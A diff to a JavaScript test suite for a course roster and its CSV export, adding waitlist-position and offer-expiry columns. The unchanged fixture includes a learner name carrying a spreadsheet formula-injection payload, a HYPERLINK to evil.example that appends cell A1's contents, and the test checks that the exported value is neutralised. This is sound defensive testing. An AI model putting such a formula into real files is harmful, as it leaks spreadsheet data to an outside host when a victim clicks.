@@ -174,6 +174,8 @@ describe('roster', () => {
       status: 'active',
       enrolledAt: expect.any(String),
       payment: { status: 'free', label: 'Free', paidInstallments: null, installments: null },
+      waitlistPosition: null,
+      offerExpiresAt: null,
     });
     expect(rows.map((r: { learnerEmail: string; status: string; sessionId: string }) => [r.sessionId, r.learnerEmail, r.status])).toEqual([
       [sessionId, hacker.email, 'active'],
@@ -181,6 +183,8 @@ describe('roster', () => {
       [sessionId, waiting.email, 'waitlisted'],
       [secondSession, plain.email, 'active'],
     ]);
+    // The line: the waitlisted learner's place in it.
+    expect(rows.find((r: { learnerEmail: string }) => r.learnerEmail === waiting.email).waitlistPosition).toBe(1);
     for (const r of rows) expect(Number.isNaN(Date.parse(r.enrolledAt))).toBe(false);
   });
 
@@ -190,10 +194,10 @@ describe('roster', () => {
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.headers['content-disposition']).toBe('attachment; filename="ink-wash-basics-roster.csv"');
     const lines = res.body.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"Session start","Name","Email","Status","Payment","Enrolled at"');
+    expect(lines[0]).toBe('"Session start","Name","Email","Status","Payment","Enrolled at","Waitlist place","Offer held until"');
     expect(lines).toHaveLength(1 + 4);
     // Every field is quoted; embedded quotes are doubled; the comma stays inside its field.
-    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){5}$/);
+    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){7}$/);
     const hackerLine = lines.find((l) => l.includes(hacker.email))!;
     const nameCell = hackerLine.split('","')[1];
     expect(nameCell).toBe(`'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith, Jr.`);
